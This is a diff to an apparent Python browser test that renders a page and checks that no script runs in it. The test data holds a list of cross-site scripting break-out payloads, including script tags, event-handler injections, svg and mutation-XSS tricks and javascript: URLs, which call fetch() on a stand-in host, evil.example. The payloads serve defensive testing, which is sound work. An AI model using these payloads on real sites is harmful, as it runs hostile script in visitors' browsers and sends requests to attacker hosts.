@@ -21,13 +21,14 @@ if TYPE_CHECKING:
 
 EVIL = "http://evil.example"
 RUN = f"window.ran = 1; document.title = 'ran'; fetch('{EVIL}/fetch')"
+FIRST = "window.ran=1"
 SCRIPT = f"<script>{RUN}</script>"
 IMAGE = f'<img src={EVIL}/x.png onerror="{RUN}">'
 BREAKS = (
     f"</title></style></script></textarea></noscript></template></blockquote></bdi></p></figure></article></main></section>{SCRIPT}{IMAGE}",
     f'" autofocus onfocus="{RUN}" x=\'',
     f"' onmouseover='{RUN}' x=\"",
-    f"--><!--><svg/onload={RUN.split(';')[0]}>",
+    f"--><!--><svg/onload={FIRST}>",
     f']]><svg><style><img src=x onerror="{RUN}"></style></svg>',
     f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN.split(";")[0]}&gt;">',
     f"<iframe srcdoc='{SCRIPT}'></iframe><object data='javascript:{RUN}'></object>",
@@ -162,7 +163,12 @@ def test_nothing_of_the_page_is_alive(name: str, bypass: bool, chromium: Any, tm
     context = chromium.new_context(bypass_csp=bypass)
     window = context.new_page()
     window.on("request", lambda request: asked.append(request.url))
-    window.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+
+    def dismiss(dialog: Any) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    window.on("dialog", dismiss)
     window.goto(path.as_uri())
     for element in window.query_selector_all("input, button, details, img, [autofocus], [tabindex]")[:200]:
         element.dispatch_event("mouseover")
